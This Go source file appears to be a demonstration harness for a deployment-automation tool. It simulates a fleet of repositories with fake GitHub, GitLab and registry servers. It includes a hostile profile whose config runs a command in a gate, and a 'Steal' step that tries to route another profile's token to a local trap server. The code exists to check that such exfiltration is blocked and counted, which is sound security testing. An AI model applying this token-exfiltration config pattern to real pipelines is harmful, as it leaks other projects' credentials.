package demo

import (
	"fmt"
	"net/http"
	"os"
	"slices"
	"strings"

	"github.com/pawl-cd/pawl/internal/fake"
	"github.com/pawl-cd/pawl/internal/fake/github"
	"github.com/pawl-cd/pawl/internal/fake/gitlab"
	"github.com/pawl-cd/pawl/internal/fake/receiver"
)

// MaxFleet bounds how many profiles a demonstration of a fleet has.
const MaxFleet = 1000

// Hostile is the profile that wants what is not its own, and Failing the one whose token its forge refuses.
const (
	Hostile = "acme/hostile"
	Failing = "acme/failing"
)

// Followed is the image that all profiles follow.
const Followed = "acme/api"

// pool are images of which each profile follows two besides.
var pool = []string{"acme/web", "acme/search", "acme/mail", "acme/billing", "acme/orders", "acme/stock", "acme/reports", "acme/login"}

// firstVersion is what everything has at first.
const firstVersion = "v1.4.0"

// Fleet is the world of a demonstration with many profiles: repositories at one GitHub, each with its own token and its own
// project at one GitLab, over one registry.
type Fleet struct {
	world
	// Profiles are the names of those that behave, in their order.
	Profiles []string

	registry *fake.Registry
	images   *fake.Faults
	tags     map[string][]string
	tokens   map[string]github.Identity
	hub      *github.Server
	gitlab   *gitlab.Server
	receiver *receiver.Receiver
	// trap is the hostile profile's own server.
	trap    *fake.Faults
	members []*member
}

// member is one profile with all that is its own.
type member struct {
	name string
	// variable is what the names of its variables end with.
	variable string
	login    string
	repo     *github.Repo
	project  *gitlab.Project
	images   []string
}

// secret is the value of a variable of the profile.
func (m *member) secret(kind string) string {
	return "demo-" + kind + "-" + strings.ToLower(m.variable) + "-token"
}

// secrets are all of them, by the names of the variables.
func (m *member) secrets() map[string]string {
	return map[string]string{"TOKEN_" + m.variable: m.secret("merge"), "TRIGGER_" + m.variable: m.secret("trigger"), "READ_" + m.variable: m.secret("read")}
}

// entry is its line of the fleet's file.
func (m *member) entry() string {
	return fmt.Sprintf("  - {repository: %s, token: TOKEN_%s, env: [TRIGGER_%[2]s, READ_%[2]s]}\n", m.name, m.variable)
}

// OpenFleet builds the world in an empty directory, with so many profiles that behave, and lists those in its fleet.yaml.
func OpenFleet(dir string, n int) (*Fleet, error) {
	f := &Fleet{tags: map[string][]string{Followed: {firstVersion}}, tokens: map[string]github.Identity{}}
	if err := f.open(dir); err != nil {
		return nil, err
	}
	for _, image := range pool {
		f.tags[image] = []string{firstVersion}
	}
	width := len(fmt.Sprint(n))
	for i := 1; i <= n; i++ {
		name := fmt.Sprintf("%0*d", width, i)
		f.members = append(f.members, &member{name: "acme/profile-" + name, variable: name, login: "bot-" + name,
			images: []string{Followed, pool[i%len(pool)], pool[(i*3+1)%len(pool)]}})
		f.Profiles = append(f.Profiles, "acme/profile-"+name)
	}
	f.members = append(f.members,
		&member{name: Hostile, variable: "HOSTILE", login: "bot-hostile", images: []string{Followed}},
		&member{name: Failing, variable: "FAILING", login: "bot-failing", images: []string{Followed}})
	if err := f.build(); err != nil {
		_ = f.Close() // the first error counts
		return nil, err
	}
	return f, nil
}

func (f *Fleet) build() error {
	f.registry = fake.NewRegistry(fake.RegistryOptions{Tags: f.tags})
	f.images, f.receiver = fake.WithFaults(f.registry), receiver.New()
	f.trap = fake.WithFaults(f.registry)
	for _, m := range f.members {
		if m.name != Failing { // whose token GitHub does not know any more
			f.tokens[m.secret("merge")] = github.Identity{Login: m.login}
		}
	}
	for _, one := range []struct {
		name, what string
		handler    func(address string) http.Handler
	}{
		{"registry", fmt.Sprintf("%d images; every profile follows %s", len(f.tags), Followed), func(string) http.Handler { return f.images }},
		{"GitHub", fmt.Sprintf("%d repositories, each with a token of its own", len(f.members)), f.gitHub},
		{"GitLab", fmt.Sprintf("%d projects that deploy, one for each profile", len(f.members)), f.gitLab},
		{"events", "a CloudEvents receiver", func(string) http.Handler { return f.receiver }},
		{"trap", "the server of " + Hostile, func(string) http.Handler { return f.trap }},
	} {
		if err := f.listen(one.name, one.what, one.handler); err != nil {
			return err
		}
	}
	for _, m := range f.members {
		if err := f.fill(m); err != nil {
			return err
		}
	}
	return f.list(f.members[:len(f.Profiles)])
}

func (f *Fleet) gitHub(address string) http.Handler {
	f.hub = github.New(github.Options{Now: f.Now, API: address, Web: address, Identities: f.tokens})
	return f.hub
}

func (f *Fleet) gitLab(address string) http.Handler {
	f.gitlab = gitlab.New(gitlab.Options{Now: f.Now, Address: address})
	for _, m := range f.members {
		m.project = f.gitlab.Create("deploy/"+strings.TrimPrefix(m.name, "acme/"), gitlab.Settings{
			Triggers: []string{m.secret("trigger")}, Readers: []string{m.secret("read")}, Statuses: []string{"created", "success"}})
	}
	return f.gitlab
}

// fill makes the repository of a profile.
func (f *Fleet) fill(m *member) error {
	m.repo = f.hub.Create(m.name, github.Settings{CI: func(string) []github.Check { return []github.Check{{Name: Check, Conclusion: "success"}} }})
	values := "# what is deployed\nimages:\n"
	files := map[string][]byte{}
	for _, image := range m.images {
		name := strings.TrimPrefix(image, "acme/")
		files["manifests/"+name+".yaml"] = fmt.Appendf(nil, "sources: {image: {kind: dockerimage, spec: {image: %s, versionfilter: ^1.0.0}}}\n"+
			"targets: {values: {kind: yaml, spec: {file: values.yaml, key: $.images.%s}}}\n", image, name)
		values += fmt.Sprintf("  %s: %s # of %s\n", name, firstVersion, image)
	}
	files["values.yaml"], files[".pawl.yaml"] = []byte(values), f.config(m, f.place("registry"), m, "")
	if m.name == Hostile {
		files[".pawl.yaml"] = f.config(m, f.place("trap"), m, fmt.Sprintf("gates:\n  scan: {run: [touch, %s]}\n", quoted(f.path(proof))))
	}
	return f.push(m, files, "The profile as it is deployed")
}

func (f *Fleet) push(m *member, files map[string][]byte, message string) error {
	if _, err := m.repo.Push("main", "alice", files, message); err != nil {
		return fmt.Errorf("making the repository of %s: %w", m.name, err)
	}
	m.repo.Protect("main", github.Protection{Checks: []string{Check}, Ruleset: true})
	return nil
}

// proof is what the hostile profile's program would leave in the folder.
const proof = "started"

// config is the configuration of a profile, which asks a registry and fires the project of one.
func (f *Fleet) config(m *member, registry string, fires *member, more string) []byte {
	return fmt.Appendf(nil, "# Written by pawl demo: every address is one of this machine.\nversion: 1\nmirrors: {docker.io: %s}\nmerge: {require: [%s]}\n"+
		"deploy: {projects: [{name: %s, url: %s, secret: TRIGGER_%s, api: READ_%s}]}\nevents: {source: 'https://git.example/%s', sinks: [{type: http, url: %s}]}\n%s",
		registry, Check, strings.TrimPrefix(fires.project.Path(), "deploy/"), quoted(fires.project.TriggerPathURL()), fires.variable, m.variable, m.name, f.place("events"), more)
}

// list writes the file of the fleet.
func (f *Fleet) list(members []*member) error {
	var b strings.Builder
	b.WriteString("# Written by pawl demo: the tokens are good for the demonstration only.\nversion: 1\nprofiles:\n")
	for _, m := range members {
		b.WriteString(m.entry())
	}
	return f.Write("fleet.yaml", []byte(b.String()))
}

// Join lists the two profiles that do not behave as well.
func (f *Fleet) Join() error { return f.list(f.members) }

// Publish has the registry list a new version of the image that all follow, and returns it.
func (f *Fleet) Publish() string {
	tags := f.tags[Followed]
	version := next(strings.TrimSuffix(tags[0], ".0")) + ".0"
	f.tags[Followed] = slices.Insert(tags, 0, version)
	f.registry.SetTags(Followed, f.tags[Followed]...)
	return version
}

// Steal has the hostile profile want what the first profile has, now that its program was refused: it names that one's token, to
// be sent to its own server along with its events. It returns whose the token is.
func (f *Fleet) Steal() (victim string, err error) {
	from, m := f.members[0], f.members[len(f.members)-2]
	trap := f.place("trap")
	config := fmt.Appendf(nil, "version: 1\nmirrors: {docker.io: %s}\nmerge: {require: [%s]}\nsecrets: {TOKEN_%s: %s}\n"+
		"events: {source: 'https://git.example/%s', sinks: [{type: http, url: %[1]s, token: TOKEN_%[3]s}]}\n",
		trap, Check, from.variable, strings.TrimPrefix(trap, "http://"), m.name)
	return from.name, f.push(m, map[string][]byte{".pawl.yaml": config}, "Something of my own")
}

// Images are those that the profiles follow which behave, each once.
func (f *Fleet) Images() []string {
	var all []string
	for _, m := range f.members[:len(f.Profiles)] {
		all = append(all, m.images...)
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// Save writes the repository of a profile to a folder in the folder, which it names.
func (f *Fleet) Save(profile string) (folder string, err error) {
	folder = strings.TrimPrefix(profile, "acme/") + ".git"
	return folder, f.hub.Repo(profile).Save(f.path(folder))
}

// Diff is what the newest commit of a profile changed, as git shows it.
func (f *Fleet) Diff(profile string) (string, error) {
	h := &own{f.hub, f.hub.Repo(profile), f.place("GitHub")}
	return h.diff(h.repo.Head("main"))
}

// Environment is that of the operator: what all profiles know, and where GitHub is.
func (f *Fleet) Environment() map[string]string {
	env := map[string]string{"GITHUB_API_URL": f.place("GitHub"), "GITHUB_GRAPHQL_URL": f.place("GitHub") + "/graphql"}
	for _, m := range f.members {
		for name, value := range m.secrets() {
			env[name] = value
		}
	}
	return env
}

// FleetCounts are how much the servers of a fleet were told so far.
type FleetCounts struct {
	// Calls are the requests to GitHub with a token that it knows, Writes those of them that change something.
	Calls, Writes int
	// Listings is how often each image was listed at the registry.
	Listings map[string]int
	// Pipelines were started at GitLab; Events is how many the receiver took.
	Pipelines, Events int
	// Trapped are the requests to the hostile profile's own server.
	Trapped int
	// Strayed are the requests to GitHub for a repository with the token of another one.
	Strayed int
	// Started reports that the hostile profile's program ran.
	Started bool
	// Profiles are the counts of each profile, by its name.
	Profiles map[string]ProfileCounts
}

// ProfileCounts are how much was done for one profile so far.
type ProfileCounts struct {
	// Calls are the requests to GitHub with its token, Writes those of them that change something.
	Calls, Writes int
	// Merges are its pull requests that were merged.
	Merges int
	// Pipelines were started in its project; Fired is how many of them are for its newest commit.
	Pipelines, Fired int
	// Version is what it holds of the image that all follow.
	Version string
	// Mark is the ref that says that it is quiet, empty for none.
	Mark string
}

// Counts counts what the servers were told.
func (f *Fleet) Counts() FleetCounts {
	c := FleetCounts{Listings: map[string]int{}, Events: len(f.receiver.Events()), Trapped: len(f.trap.Requests()), Profiles: map[string]ProfileCounts{}}
	_, err := os.Stat(f.path(proof))
	c.Started = err == nil
	for _, r := range f.images.Requests() {
		if image, ok := strings.CutSuffix(strings.TrimPrefix(r.Path, "/v2/"), "/tags/list"); ok {
			c.Listings[image]++
		}
	}
	calls, writes := map[string]int{}, map[string]int{}
	for _, call := range f.hub.Calls() {
		if call.Identity == "" { // of the failing profile some are under way when the first is refused
			continue
		}
		c.Calls++
		calls[call.Identity]++
		if call.Writing {
			c.Writes++
			writes[call.Identity]++
		}
		if owner := repositoryOf(call.Path); owner != "" && call.Identity != "bot-"+strings.TrimPrefix(strings.TrimPrefix(owner, "acme/"), "profile-") {
			c.Strayed++
		}
	}
	for _, m := range f.members {
		one := ProfileCounts{Calls: calls[m.login], Writes: writes[m.login]}
		for _, p := range m.repo.Pulls() {
			if p.Merged {
				one.Merges++
			}
		}
		for _, p := range m.project.Pipelines() {
			one.Pipelines++
			if strings.HasSuffix(p.Variables["CD_COMMIT_URL"], "/"+m.repo.Head("main")) {
				one.Fired++
			}
		}
		c.Pipelines += one.Pipelines
		data, _ := m.repo.File("main", "values.yaml")
		_, rest, _ := strings.Cut(string(data), "  api: ")
		one.Version, _, _ = strings.Cut(rest, " ")
		for ref := range m.repo.Refs() {
			if strings.HasPrefix(ref, "refs/pawl/quiet/") {
				one.Mark = ref
			}
		}
		c.Profiles[m.name] = one
	}
	return c
}

// repositoryOf is the repository that a path of GitHub's is about, empty for none.
func repositoryOf(path string) string {
	parts := strings.Split(strings.TrimPrefix(strings.TrimPrefix(path, "/"), "repos/"), "/")
	if len(parts) < 2 || parts[0] != "acme" {
		return ""
	}
	return parts[0] + "/" + strings.TrimSuffix(parts[1], ".git")
}
